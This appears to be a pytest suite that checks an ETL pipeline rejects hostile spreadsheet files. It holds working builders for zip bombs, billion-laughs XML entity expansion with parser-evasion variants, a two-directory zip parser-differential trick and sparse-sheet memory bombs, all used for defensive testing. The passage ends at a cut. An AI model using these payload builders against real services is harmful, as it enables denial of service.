"""Hostile files: each one ends in a clear rejection (or, when only its text is odd, in rows
stored verbatim) and nothing else in the warehouse changes.

Everything runs for real: the pipeline on DuckDB files in a temporary folder, or the
``cdv-etl`` command in a child process where a failure could take the process down (its
memory is capped and its peak is measured). Every hostile file is built here, in the test.
"""

from __future__ import annotations

import atexit
import csv
import functools
import io
import json
import os
import random
import re
import resource
import shutil
import string
import struct
import subprocess
import sys
import tempfile
import threading
import zipfile
import zlib
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import duckdb
import pytest
from analyst_helpers import never_holding_specs, run_cli
from conftest import copy_warehouse, sample_warehouse, table_snapshot
from hypothesis import HealthCheck, given
from hypothesis import settings as hsettings
from hypothesis import strategies as st
from openpyxl import Workbook

from cdv_etl.config import Settings
from cdv_etl.errors import FileRejected
from cdv_etl.load.loader import LoadResult
from cdv_etl.pipeline import Pipeline, open_pipeline
from cdv_etl.read.sandbox import reader_connection
from cdv_etl.read.xlsx import MAX_PROLOG, check_container

CLI = Path(sys.executable).with_name("cdv-etl")
CHILD_MEMORY_CAP = 3 * 1024**3  # address space of a child process: a blow-up fails it, not the machine
WIDE_CHILD_MEMORY_CAP = 8 * 1024**3
"""For a child that ingests many files in one process: its address space (not its resident memory,
which the tests measure) grows with the threads and allocator arenas of DuckDB, Polars and Arrow,
and 3 GB sometimes failed an ordinary 16 MB allocation. Still far below a bomb's (512 GB)."""

# A partner added by one spec file (as tests/test_formats.py does), whose free-text columns
# land in commune_label and project_label.
HOSTILE_SPEC = """
partner: hostile_test
name: Partenaire de test (cellules hostiles)
file_pattern: 'hostile_\\d{4}-\\d{2}\\.csv'
format: {type: csv, encoding: utf-8, delimiter: ";"}
extraction_date: {source: filename, pattern: 'hostile_(\\d{4}-\\d{2})', format: '%Y-%m'}
fields:
  operation_id: {column: ref}
  insee_code: {column: code, parser: insee}
  commune_label: {column: commune}
  project_label: {column: projet}
  amount_eur: {column: montant, parser: french_number}
  engagement_date: {column: date, parser: date_dmy}
axis: 4
default_instrument: grant
"""

AL_HEADER = [
    "Référence opération",
    "Code commune",
    "Nom commune",
    "Type d'opération",
    "Produit",
    "Nb logements",
    "Montant engagé",
    "Date décision CE",
]
BDT_HEADER = [
    "N° engagement",
    "Code INSEE",
    "Commune",
    "Nature d'intervention",
    "Thématique",
    "Intitulé du projet",
    "Date d'engagement",
    "Montant engagé (€)",
]
EPF_HEADER = ["id_intervention", "insee", "commune", "vocation", "date_acte", "montant_keur", "surface_m2"]


# -- the warehouse ---------------------------------------------------------------------------


def hostile_settings(folder: Path, **changes: Any) -> Settings:
    """A warehouse in ``folder``, read with the five partners' specs and ``hostile_test``'s."""
    # Each hostile file is a case of its own, not its partner's next stock: none is held.
    specs = never_holding_specs(folder / "specs")
    (specs / "hostile_test.yaml").write_text(HOSTILE_SPEC.rstrip("\n") + "\nhold_threshold_pct: 100\n", "utf-8")
    return Settings(warehouse=folder / "wh" / "cdv.duckdb", specs_dir=specs, lock_timeout_s=5, **changes)


EARLIER_ROWS = [
    ["AL0001", "47001", "Agen", "Construction neuve", "Prêt", "12", "1 234,56 €", "05/03/2021"],
    ["AL0002", "62498", "Lens", "Réhabilitation lourde", "Subvention", "4", "10\u00a0000,00", "06/04/2022"],
    ["AL0003", "75056", "Paris", "Construction neuve", "Prêt", "3", "5 000,00", "07/05/2023"],
]
_EARLIER: list[Settings] = []


def earlier_warehouse() -> Settings:
    """The sample warehouse with one Action Logement export loaded: built once per session (an
    ingest), then copied for each test (milliseconds)."""
    if not _EARLIER:
        folder = Path(tempfile.mkdtemp(prefix="cdv-hostile-"))
        atexit.register(shutil.rmtree, folder, True)
        s = hostile_settings(folder)
        with open_pipeline(sample_warehouse(s), publish_on_exit=False) as pipe:
            r = pipe.ingest(write_al(folder / "earlier" / "AL_ACV_export_2026-09.csv", EARLIER_ROWS))
            assert (r.status, r.rows_loaded, r.rows_quarantined) == ("loaded", 2, 1), r.message
        _EARLIER.append(s)
    return _EARLIER[0]


@contextmanager
def open_warehouse(tmp_path: Path, **changes: Any) -> Iterator[Pipeline]:
    """A fresh warehouse with the sample reference, the five partners and ``hostile_test``,
    holding one export already loaded (whose rows must never change): the session's, copied."""
    s = copy_warehouse(earlier_warehouse(), hostile_settings(tmp_path, **changes))
    with open_pipeline(s, publish_on_exit=False) as pipe:
        yield pipe


@pytest.fixture
def wh(tmp_path: Path) -> Iterator[Pipeline]:
    with open_warehouse(tmp_path) as pipe:
        yield pipe


def rows_of_other_files(con: duckdb.DuckDBPyConnection, file_id: int | None) -> dict[str, list[str]]:
    """table_snapshot, without the rows of ``file_id`` (the only rows a new file may add), nor
    ``id_counters`` (a new file takes the next id)."""
    snap: dict[str, list[str]] = {}
    for (name,) in con.execute(
        "SELECT table_name FROM duckdb_tables() WHERE NOT temporary AND table_name <> 'id_counters' ORDER BY 1"
    ).fetchall():
        cols = {
            c
            for (c,) in con.execute(
                "SELECT column_name FROM duckdb_columns() WHERE table_name = ? AND database_name = current_database()",
                [name],
            ).fetchall()
        }
        if "file_id" in cols:
            rows = con.execute(f'SELECT * FROM "{name}" WHERE file_id IS DISTINCT FROM ?', [file_id]).fetchall()
        else:
            rows = con.execute(f'SELECT * FROM "{name}"').fetchall()
        snap[name] = sorted(map(repr, rows))
    return snap


def assert_only_its_own_rows(pipe: Pipeline, before: dict[str, list[str]], r: LoadResult) -> None:
    """Every table still exists; the file added its ledger row (and, if loaded, its rows), nothing else."""
    after = table_snapshot(pipe.con)
    assert set(after) == set(before), "a table appeared or disappeared"
    added = Counter(after["files"]) - Counter(before["files"])
    assert not Counter(before["files"]) - Counter(after["files"]), "an earlier ledger row changed"
    assert sum(added.values()) == 1, f"expected one new ledger row, got {added}"
    assert rows_of_other_files(pipe.con, r.file_id) == {t: rows for t, rows in before.items() if t != "id_counters"}
    if r.status == "rejected":
        for table in ("engagement_rows", "quarantine_rows", "quarantine_failures"):
            assert after[table] == before[table], f"{table} changed for a rejected file"
    stored = pipe.con.execute("SELECT file_name, status, reason FROM files WHERE file_id = ?", [r.file_id]).fetchone()
    assert stored == (r.file_name, r.status, r.reason)


def earlier_export(con: duckdb.DuckDBPyConnection) -> list[object]:
    """Everything the warehouse holds about the export loaded first (file 1)."""
    return [
        con.execute(f'SELECT * FROM "{t}" WHERE file_id = 1 ORDER BY ALL').fetchall()
        for t in ("files", "engagement_rows", "quarantine_rows", "quarantine_failures")
    ]


def assert_rejected(
    pipe: Pipeline, before: dict[str, list[str]], r: LoadResult, reasons: set[str], *words: str
) -> None:
    assert r.status == "rejected", f"{r.file_name}: {r.status} ({r.message})"
    assert r.reason in reasons, r.message
    assert r.message.startswith(r.file_name + ":"), r.message
    for word in words:
        assert word.lower() in r.message.lower(), f"{word!r} not in {r.message!r}"
    assert_only_its_own_rows(pipe, before, r)


# -- files ------------------------------------------------------------------------------------


def write_al(path: Path, rows: list[list[str]]) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w", encoding="cp1252", newline="") as fh:
        csv.writer(fh, delimiter=";", lineterminator="\r\n").writerows([AL_HEADER, *rows])
    return path


def write_epf(path: Path, rows: list[list[str]]) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh, delimiter="\t", lineterminator="\n").writerows([EPF_HEADER, *rows])
    return path


def bdt_rows(n: int, start: int = 1) -> list[list[Any]]:
    communes = [("47001", "Agen"), ("62498", "Lens"), ("2A004", "Ajaccio"), ("10387", "Troyes")]
    return [
        [
            f"BDT-2024-{i:05d}",
            *communes[i % 4],
            "Prêt",
            "Habitat",
            f"Projet {i}",
            date(2024, 1 + i % 12, 1 + i % 28),
            1000.0 + i,
        ]
        for i in range(start, start + n)
    ]


def bdt_workbook(rows: list[list[Any]], *, stray: tuple[int, int] | None = None) -> bytes:
    """A Banque des Territoires workbook as its notice describes it (the real layout, openpyxl)."""
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.title = "Engagements"
    ws["A1"] = "Banque des Territoires — Programme Action Cœur de Ville"
    ws["A2"] = "Extraction du 15/11/2026 — montants en euros"
    for c, v in enumerate(BDT_HEADER, start=1):
        ws.cell(row=4, column=c, value=v)
    for r, values in enumerate(rows, start=5):
        for c, v in enumerate(values, start=1):
            cell = ws.cell(row=r, column=c, value=v)
            if isinstance(v, str) and v.startswith("=") and c != 8:
                cell.data_type = "s"  # text that looks like a formula, as typed; amounts stay formulas
    total = sum((Decimal(str(v[7])) for v in rows if isinstance(v[7], float)), Decimal(0))
    footer = 5 + len(rows) + 1
    ws.cell(row=footer, column=1, value="TOTAL")
    ws.cell(row=footer, column=8, value=float(total))
    if stray:
        ws.cell(row=stray[0], column=stray[1], value="x")
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return {i.filename: zf.read(i) for i in zf.infolist()}


def zipped(parts: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)
    return buf.getvalue()


SHEET = "xl/worksheets/sheet1.xml"


def with_sheet(data: bytes, edit: Callable[[bytes], bytes]) -> bytes:
    parts = members(data)
    parts[SHEET] = edit(parts[SHEET])
    return zipped(parts)


def shared_strings(data: bytes, prolog: str = "") -> bytes:
    """The same workbook with its texts in xl/sharedStrings.xml, as Excel writes them."""
    parts = members(data)
    strings: list[str] = []

    def shared(m: re.Match[str]) -> str:
        strings.append(m.group(1))
        return f't="s"><v>{len(strings) - 1}</v></c>'

    parts[SHEET] = re.sub(r't="inlineStr"><is><t>(.*?)</t></is></c>', shared, parts[SHEET].decode()).encode()
    items = "".join(f"<si><t>{s}</t></si>" for s in strings)
    parts["xl/sharedStrings.xml"] = (
        f'{prolog}<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        f'count="{len(strings)}" uniqueCount="{len(strings)}">{items}</sst>'
    ).encode()
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>",
        b'<Relationship Id="rIdSS" Target="sharedStrings.xml" Type="http://schemas.openxmlformats.org/'
        b'officeDocument/2006/relationships/sharedStrings"/></Relationships>',
    )
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>",
        b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
        b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
    )
    return zipped(parts)


def laughs(levels: int = 9, width: int = 10) -> tuple[str, str]:
    """A DTD of nested entities (10**levels copies of "lol" once expanded) and its reference."""
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{k} "{f"&lol{k - 1};" * width}">' for k in range(1, levels + 1)
    ]
    return f"<!DOCTYPE lolz [{''.join(entities)}]>", f"&lol{levels};"


# -- a child process: the real command line, memory capped and measured -------------------------


def run_child(
    args: list[str], warehouse: Path, cwd: Path, timeout_s: float = 600, cap: int = CHILD_MEMORY_CAP
) -> tuple[int, str, int]:
    """Run ``cdv-etl args`` with its address space capped at ``cap`` bytes; return its exit code
    (negative: killed by that signal), output and peak resident memory in MB (its own, from wait4)."""

    def _cap_memory() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (cap, cap))

    env = {**os.environ, "CDV_WAREHOUSE": str(warehouse), "CDV_LOCK_TIMEOUT": "5"}
    with (cwd / "cli-output.txt").open("w+b") as out:
        proc = subprocess.Popen(
            [str(CLI), *args], stdout=out, stderr=subprocess.STDOUT, env=env, cwd=cwd, preexec_fn=_cap_memory
        )
        watchdog = threading.Timer(timeout_s, proc.kill)
        watchdog.start()
        try:
            _, status, usage = os.wait4(proc.pid, 0)
        finally:
            watchdog.cancel()
        proc.returncode = os.waitstatus_to_exitcode(status)
        out.seek(0)
        return proc.returncode, out.read().decode("utf-8", "replace"), usage.ru_maxrss // 1024


def ledger(warehouse: Path) -> dict[str, tuple[str, str | None, str | None]]:
    with duckdb.connect(str(warehouse), read_only=True) as con:
        return {
            name: (status, reason, message)
            for name, status, reason, message in con.execute(
                "SELECT file_name, status, reason, message FROM files"
            ).fetchall()
        }


@pytest.fixture
def cli_warehouse(tmp_path: Path) -> Path:
    """A warehouse holding the sample reference (the session's, copied), for the command line to load into."""
    return sample_warehouse(Settings(warehouse=tmp_path / "wh" / "cdv.duckdb")).warehouse


# -- 1. workbooks that are not what they claim ---------------------------------------------------


def _patch_member_header(
    data: bytes, name: str, *, flags: int | None = None, method: int | None = None, declared_size: int | None = None
) -> bytes:
    """Edit a member's local header and central directory entry, as a broken or hostile tool would."""
    b = bytearray(data)
    i = b.find(b"PK\x01\x02")
    while i != -1:
        name_len = struct.unpack_from("<H", b, i + 28)[0]
        if bytes(b[i + 46 : i + 46 + name_len]) == name.encode():
            local = struct.unpack_from("<I", b, i + 42)[0]
            if flags is not None:
                struct.pack_into("<H", b, i + 8, flags)
                struct.pack_into("<H", b, local + 6, flags)
            if method is not None:
                struct.pack_into("<H", b, i + 10, method)
                struct.pack_into("<H", b, local + 8, method)
            if declared_size is not None:
                struct.pack_into("<I", b, i + 24, declared_size)
                struct.pack_into("<I", b, local + 22, declared_size)
        i = b.find(b"PK\x01\x02", i + 4)
    return bytes(b)


def _corrupt_member_data(data: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        info = zf.getinfo(name)
    name_len, extra_len = struct.unpack_from("<HH", data, info.header_offset + 26)
    start = info.header_offset + 30 + name_len + extra_len
    noise = random.Random(7).randbytes(info.compress_size)
    return data[:start] + noise + data[start + info.compress_size :]


BROKEN_WORKBOOKS: dict[str, Callable[[bytes], bytes]] = {
    "cut_in_half": lambda d: d[: len(d) // 2],
    "sheet_data_corrupted": lambda d: _corrupt_member_data(d, SHEET),
    "workbook_part_corrupted": lambda d: _corrupt_member_data(d, "xl/workbook.xml"),
    "member_marked_encrypted": lambda d: _patch_member_header(d, SHEET, flags=1),
    "unknown_compression_method": lambda d: _patch_member_header(d, SHEET, method=99),
    "png_named_xlsx": lambda d: b"\x89PNG\r\n\x1a\n" + d[:2000],
}


@pytest.mark.parametrize("damage", BROKEN_WORKBOOKS)
def test_damaged_workbook_is_rejected_cleanly(wh: Pipeline, tmp_path: Path, damage: str) -> None:
    """A real BDT workbook, damaged; a clean rejection, never an exception (the last four used to
    escape Pipeline.ingest as zlib.error, RuntimeError and NotImplementedError)."""
    path = tmp_path / "inbox" / "BDT_ACV_engagements_20261115.xlsx"
    path.parent.mkdir()
    path.write_bytes(BROKEN_WORKBOOKS[damage](bdt_workbook(bdt_rows(60))))
    before = table_snapshot(wh.con)
    r = wh.ingest(path)
    assert_rejected(wh, before, r, {"unreadable"}, "not a valid XLSX workbook")


def test_zip_bomb_named_xlsx_is_refused_unread(wh: Pipeline, tmp_path: Path) -> None:
    """200 MB of zeros deflate to ~200 kB: refused from the zip directory, never inflated."""
    path = tmp_path / "BDT_ACV_engagements_20261115.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", members(bdt_workbook([]))["[Content_Types].xml"])
        with zf.open(SHEET, "w") as member:  # streamed: never 200 MB in memory
            zeros = bytes(1 << 20)
            for _ in range(200):
                member.write(zeros)
    assert path.stat().st_size < 1024 * 1024
    before = table_snapshot(wh.con)
    r = wh.ingest(path)
    assert_rejected(wh, before, r, {"zip_bomb"}, "zip bomb", "200 MB")


def test_zip_bomb_lying_about_its_size_is_refused(wh: Pipeline, tmp_path: Path) -> None:
    """The same bomb whose headers declare a small size: reading stops at the declared size and
    the checksum gives it away."""
    real = bdt_workbook(bdt_rows(5))
    parts = members(real)
    path = tmp_path / "BDT_ACV_engagements_20261115.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            if name != SHEET:
                zf.writestr(name, data)
        with zf.open(SHEET, "w") as member:
            head, tail = parts[SHEET].split(b"<sheetData>")
            member.write(head + b"<sheetData>")
            spaces = b" " * (1 << 20)
            for _ in range(200):
                member.write(spaces)
            member.write(tail)
    path.write_bytes(_patch_member_header(path.read_bytes(), SHEET, declared_size=len(parts[SHEET])))
    before = table_snapshot(wh.con)
    r = wh.ingest(path)
    assert_rejected(wh, before, r, {"unreadable", "zip_bomb"}, SHEET.rsplit("/", 1)[-1])


# -- 2. XML entity expansion ("billion laughs") ---------------------------------------------------


def _laughing_sheet(prolog: str = "", encoding: str = "utf-8") -> Callable[[bytes], bytes]:
    def edit(sheet: bytes) -> bytes:
        dtd, ref = laughs()
        body = sheet.decode().replace("<t>Agen</t>", f"<t>{ref}</t>", 1)
        assert ref in body
        return (f'<?xml version="1.0" encoding="{encoding}"?>{prolog}{dtd}{body}').encode(encoding)

    return edit


def _laughing_shared_strings(data: bytes) -> bytes:
    dtd, ref = laughs()
    book = shared_strings(data, prolog=dtd)
    parts = members(book)
    parts["xl/sharedStrings.xml"] = parts["xl/sharedStrings.xml"].replace(b"<t>Agen</t>", ref.encode(), 1)
    return zipped(parts)


def _laughing_part_moved(data: bytes, target: str) -> bytes:
    """The laughing sheet stored as xl/<target>, the workbook's link pointing there."""
    parts = members(with_sheet(data, _laughing_sheet()))
    parts[f"xl/{target}"] = parts.pop(SHEET)
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"worksheets/sheet1.xml", target.encode()
    )
    return zipped(parts)


def _laughing_part_under_another_name(data: bytes) -> bytes:
    """The sheet stored as xl/worksheets/sheet1.bin: the reader follows the workbook's links, not
    the names (the old check only looked into *.xml and *.rels)."""
    return _laughing_part_moved(data, "worksheets/sheet1.bin")


def _laughing_part_linked_from_the_media_folder(data: bytes) -> bytes:
    """The sheet stored among the images (xl/media/), the workbook's link pointing there: the
    reader follows the link, so no folder may go unchecked."""
    return _laughing_part_moved(data, "media/sheet1.xml")


def _laughing_utf16_without_bom(sheet: bytes) -> bytes:
    """No byte-order mark and a blank before the DTD: an XML parser still reads UTF-16 from the
    zero byte, so the check must too."""
    dtd, ref = laughs()
    return (" " + dtd + sheet.decode().replace("<t>Agen</t>", f"<t>{ref}</t>", 1)).encode("utf-16-le")


LAUGHING_WORKBOOKS: dict[str, Callable[[bytes], bytes]] = {
    "in_utf16_without_bom": lambda d: with_sheet(d, _laughing_utf16_without_bom),
    "in_a_part_linked_from_the_media_folder": _laughing_part_linked_from_the_media_folder,
    "in_the_sheet": lambda d: with_sheet(d, _laughing_sheet()),
    "in_shared_strings": _laughing_shared_strings,
    # The old check read the first 4 kB of each part: a long comment pushed the DTD past it.
    "after_a_64kB_comment": lambda d: with_sheet(d, _laughing_sheet(prolog="<!--" + "x" * 65536 + "-->")),
    "in_utf16": lambda d: with_sheet(d, _laughing_sheet(encoding="utf-16")),
    "in_a_part_not_named_xml": _laughing_part_under_another_name,
}


@pytest.mark.parametrize("variant", LAUGHING_WORKBOOKS)
def test_entity_expansion_is_refused(wh: Pipeline, tmp_path: Path, variant: str) -> None:
    path = tmp_path / "BDT_ACV_engagements_20261115.xlsx"
    path.write_bytes(LAUGHING_WORKBOOKS[variant](bdt_workbook(bdt_rows(30))))
    before = table_snapshot(wh.con)
    r = wh.ingest(path)
    assert_rejected(wh, before, r, {"xml_entities"}, "DTD or XML entities")


def _two_directories(evil: bytes, clean: bytes) -> bytes:
    """One file, two zip directories: the end record declares the evil one's offset and the
    clean one's size. Python finds the directory just before the end record (clean parts);
    the excel extension's minizip goes to the declared offset (evil parts)."""

    def split(data: bytes) -> tuple[bytes, bytearray, int]:
        end = data.rfind(b"PK\x05\x06")
        count = struct.unpack_from("<H", data, end + 10)[0]
        size, offset = struct.unpack_from("<II", data, end + 12)
        return data[:offset], bytearray(data[offset : offset + size]), count

    bad, bad_dir, n = split(evil)
    good, good_dir, n2 = split(clean)
    assert n == n2 and len(bad_dir) == len(good_dir)
    bad += b"\0" * (max(0, len(good) - len(bad)) + 16)
    i = 0
    while i < len(good_dir):  # Python adds the gap it sees to these offsets: pre-subtract it
        name_len, extra_len, comment_len = struct.unpack_from("<HHH", good_dir, i + 28)
        struct.pack_into("<I", good_dir, i + 42, struct.unpack_from("<I", good_dir, i + 42)[0] + len(bad) - len(good))
        i += 46 + name_len + extra_len + comment_len
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, n, n, len(good_dir), len(bad), 0)
    return bad + bytes(bad_dir) + good + bytes(good_dir) + end


def test_a_zip_with_two_directories_is_refused(wh: Pipeline, tmp_path: Path) -> None:
    """Python's zipfile and the reader would see two different workbooks: the check would pass
    the clean one while the reader expands the DTD of the other. Refused before either reads it."""
    clean = bdt_workbook(bdt_rows(30))
    path = tmp_path / "BDT_ACV_engagements_20261115.xlsx"
    path.write_bytes(_two_directories(with_sheet(clean, _laughing_sheet()), clean))
    with zipfile.ZipFile(path) as zf:  # what Python sees: the clean sheet
        assert b"<!DOCTYPE" not in zf.read(SHEET)
    before = table_snapshot(wh.con)
    r = wh.ingest(path)
    assert_rejected(wh, before, r, {"unreadable"}, "second directory")


def test_renamed_part_is_a_real_workbook(wh: Pipeline, tmp_path: Path) -> None:
    """The control for ``in_a_part_not_named_xml``: without the DTD the renamed sheet loads."""
    parts = members(bdt_workbook(bdt_rows(10)))
    parts["xl/worksheets/sheet1.bin"] = parts.pop(SHEET)
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"worksheets/sheet1.xml", b"worksheets/sheet1.bin"
    )
    path = tmp_path / "BDT_ACV_engagements_20261115.xlsx"
    path.write_bytes(zipped(parts))
    r = wh.ingest(path)
    assert (r.status, r.rows_loaded) == ("loaded", 10), r.message


def test_reader_refuses_a_billion_laughs_below_the_container_check(tmp_path: Path) -> None:
    """Defence in depth: read_xlsx itself, given the DTD the container check refuses, stops the
    expansion (expat's amplification limit) instead of building 3 GB of 'lol'."""
    path = tmp_path / "laughs.xlsx"
    path.write_bytes(with_sheet(bdt_workbook(bdt_rows(30)), _laughing_sheet()))
    con = reader_connection(path, tmp_path / "work", "256MB", excel=True)
    try:
        with pytest.raises(duckdb.Error) as exc:
            con.execute(
                "SELECT * FROM read_xlsx(?, sheet = 'Engagements', all_varchar = true, range = 'A4:H')", [str(path)]
            ).fetchall()
        assert "amplification" in str(exc.value) or "too large" in str(exc.value), exc.value
    finally:
        con.close()


# Letters at random: a long comment that does not compress (a repetitive one trips the zip-bomb ratio).
_LONG_COMMENT = "<!--" + "".join(random.Random(7).choices(string.ascii_letters, k=70_000)) + "-->"


def _prologs() -> st.SearchStrategy[str]:
    """What may stand before an XML document's first element: declarations, PIs, comments, blanks."""
    piece = st.sampled_from(
        [
            "",
            " ",
            "\r\n",
            "\t",
            "<?pi data?>",
            "<!-- a comment -->",
            "<!-- <!DOCTYPE x> -->",
            "<?xml-stylesheet href='a'?>",
            _LONG_COMMENT,
        ]
    )
    return st.lists(piece, max_size=6).map("".join)


@functools.cache
def _one_row_workbook() -> dict[str, bytes]:
    """The parts of a one-row BDT workbook: the same for every example, so written once."""
    return members(bdt_workbook(bdt_rows(1)))


@hsettings(max_examples=150, deadline=None, database=None)
@given(
    _prologs(),
    st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be"]),
    st.booleans(),
    st.sampled_from(['<!DOCTYPE w [<!ENTITY a "b">]>', "<!DOCTYPE w>", '<!ENTITY a "b">']),
)
def test_prolog_check_finds_every_dtd_an_xml_parser_would_accept(
    prolog: str, encoding: str, with_dtd: bool, dtd: str
) -> None:
    """A DTD may only stand before the first element (expat refuses one anywhere else): the check
    reads exactly that far, in any encoding, past any comment, and finds it; without one, it passes."""
    declaration = f'<?xml version="1.0" encoding="{encoding.replace("-sig", "")}"?>'
    xml = f"{declaration}{prolog}{dtd if with_dtd else ''}{prolog}<worksheet><sheetData/></worksheet>"
    parts = {**_one_row_workbook(), SHEET: xml.encode(encoding)}
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "book.xlsx"
        path.write_bytes(zipped(parts))
        if with_dtd:
            with pytest.raises(FileRejected) as exc:
                check_container(path)
            assert exc.value.reason == "xml_entities"
        elif len(xml.encode(encoding)) > MAX_PROLOG:
            with pytest.raises(FileRejected):
                check_container(path)
        else:
            assert list(check_container(path)) == ["Engagements"]


@pytest.mark.parametrize("variant", ["in_the_sheet", "after_a_64kB_comment", "in_shared_strings"])
def test_entity_expansion_through_the_cli_keeps_memory_flat(tmp_path: Path, cli_warehouse: Path, variant: str) -> None:
    """The real command, in a child process capped at 3 GB: exit 1 (file rejected), the reason
    about entities, and a peak memory of an ordinary run (10**9 × 'lol' would be 3 GB)."""
    path = tmp_path / "exports" / "BDT_ACV_engagements_20261115.xlsx"
    path.parent.mkdir()
    path.write_bytes(LAUGHING_WORKBOOKS[variant](bdt_workbook(bdt_rows(30))))
    code, out, peak_mb = run_child(["ingest", str(path)], cli_warehouse, tmp_path)
    assert code == 1, out
    assert "DTD or XML entities" in out
    assert peak_mb < 600, f"peak memory {peak_mb} MB"
    assert ledger(cli_warehouse)[path.name][:2] == ("rejected", "xml_entities")


# -- 3. a sheet whose cells span an absurd rectangle ----------------------------------------------


def _sparse_variants() -> dict[str, bytes]:
    base = bdt_workbook(bdt_rows(5))
    far = '<c r="{ref}" t="inlineStr"><is><t>x</t></is></c>'

    def after_first_row(extra: str) -> Callable[[bytes], bytes]:
        return lambda sheet: sheet.replace(b"</row>", extra.encode() + b"</row>", 1)

    return {
        # One stray cell in the last row and column: 17 billion cells for calamine, 6 kB on disk.
        "stray_cell_at_XFD1048576": bdt_workbook(bdt_rows(5), stray=(1_048_576, 16_384)),
        "lowercase_reference": with_sheet(base, after_first_row(far.format(ref="xfd1048576"))),
        "second_r_attribute_wins": with_sheet(
            base, after_first_row('<c r="I1" r="XFD1048576" t="inlineStr"><is><t>x</t></is></c>')
        ),
        "namespace_prefix": with_sheet(
            base, after_first_row('<x:c r="XFD1048576" t="inlineStr"><is><t>x</t></is></x:c>')
        ),
        "spaces_and_single_quotes": with_sheet(
            base, after_first_row("<c r = 'XFD1048576' t='inlineStr'><is><t>x</t></is></c>")
        ),
        "quote_hiding_a_bracket": with_sheet(
            base, after_first_row('<c s=">" r="XFD1048576" t="inlineStr"><is><t>x</t></is></c>')
        ),
        "cells_without_reference": with_sheet(
            base,
            lambda s: s.replace(
                b"</sheetData>", b'<row r="1048576">' + b"<c><v>1</v></c>" * 40 + b"</row></sheetData>"
            ),
        ),
    }


def test_sparse_sheet_bombs_cost_neither_memory_nor_a_crash(
    tmp_path: Path, cli_warehouse: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Each workbook is a few kB whose cells span a huge rectangle (a stray cell at XFD1048576
    made the previous reader, python-calamine, allocate 512 GB and abort the process). read_xlsx
    streams the sheet within the columns the header sets: each is read in flat memory and either
    loads its five rows (the stray cell ignored, or a row of its own, quarantined) or is refused
    as unreadable, and the run carries on (a crash would show as a negative exit code)."""
    inbox = tmp_path / "exports"
    inbox.mkdir()
    paths = []
    for n, (variant, data) in enumerate(_sparse_variants().items()):
        path = inbox / f"BDT_ACV_engagements_202611{n + 10:02d}_{variant}.xlsx"
        path.write_bytes(data)
        assert path.stat().st_size < 50_000
        paths.append(path)
    good = inbox / "BDT_ACV_engagements_20261101.xlsx"
    good.write_bytes(bdt_workbook(bdt_rows(20)))
    monkeypatch.setenv("CDV_SPECS", str(never_holding_specs(tmp_path / "specs")))  # each variant: 5 of the 20 rows
    code, out, peak_mb = run_child(
        ["ingest", "--partner", "bdt", str(good), *map(str, paths)], cli_warehouse, tmp_path, cap=WIDE_CHILD_MEMORY_CAP
    )
    assert code in (0, 1), f"exit {code}: {out}"
    assert peak_mb < 600, f"peak memory {peak_mb} MB"
    files = ledger(cli_warehouse)
    assert files[good.name][:2] == ("loaded", None)
    con = duckdb.connect(str(cli_warehouse), read_only=True)
    try:
        for path in paths:
            assert path.name in files, f"{path.name} has no ledger row (its ingest raised): {out}"
            status, reason, message = files[path.name]
            if status == "rejected":
                assert reason == "unreadable" and message.startswith(path.name + ":"), (path.name, message)
                continue
            loaded, quarantined = con.execute(
                "SELECT rows_loaded, rows_quarantined FROM files WHERE file_name = ?", [path.name]
            ).fetchone()
            assert (status, loaded) == ("loaded", 5), (path.name, message)
            assert quarantined <= 1, (path.name, quarantined)
    finally:
        con.close()


def test_workbook_without_cell_references_still_loads(wh: Pipeline, tmp_path: Path) -> None:
    """Writers may omit r="A1" (the reader then places cells one after the other): the span
    check follows them exactly, so such a workbook is not mistaken for a bomb."""
    rows = bdt_rows(300)
    plain = tmp_path / "a" / "BDT_ACV_engagements_20261115.xlsx"
    bare = tmp_path / "b" / "BDT_ACV_engagements_20261115.xlsx"
    plain.parent.mkdir()
    bare.parent.mkdir()
    plain.write_bytes(bdt_workbook(rows))
    bare.write_bytes(with_sheet(plain.read_bytes(), lambda s: re.sub(rb'<c r="[A-Z]+[0-9]+"', b"<c", s)))
    assert b'<c r="' not in members(bare.read_bytes())[SHEET]
    r1 = wh.ingest(plain)
    r2 = wh.ingest(bare, force=True)
    assert (r1.status, r1.rows_loaded) == ("loaded", 300), r1.message
    assert (r2.status, r2.rows_loaded, r2.loaded_amount_eur) == ("loaded", 300, r1.loaded_amount_eur), r2.message
    assert r2.control_total_ok


# -- 4. damaged bytes, at random --------------------------------------------------------------


def test_randomly_damaged_workbooks_never_crash_the_run(tmp_path: Path) -> None:
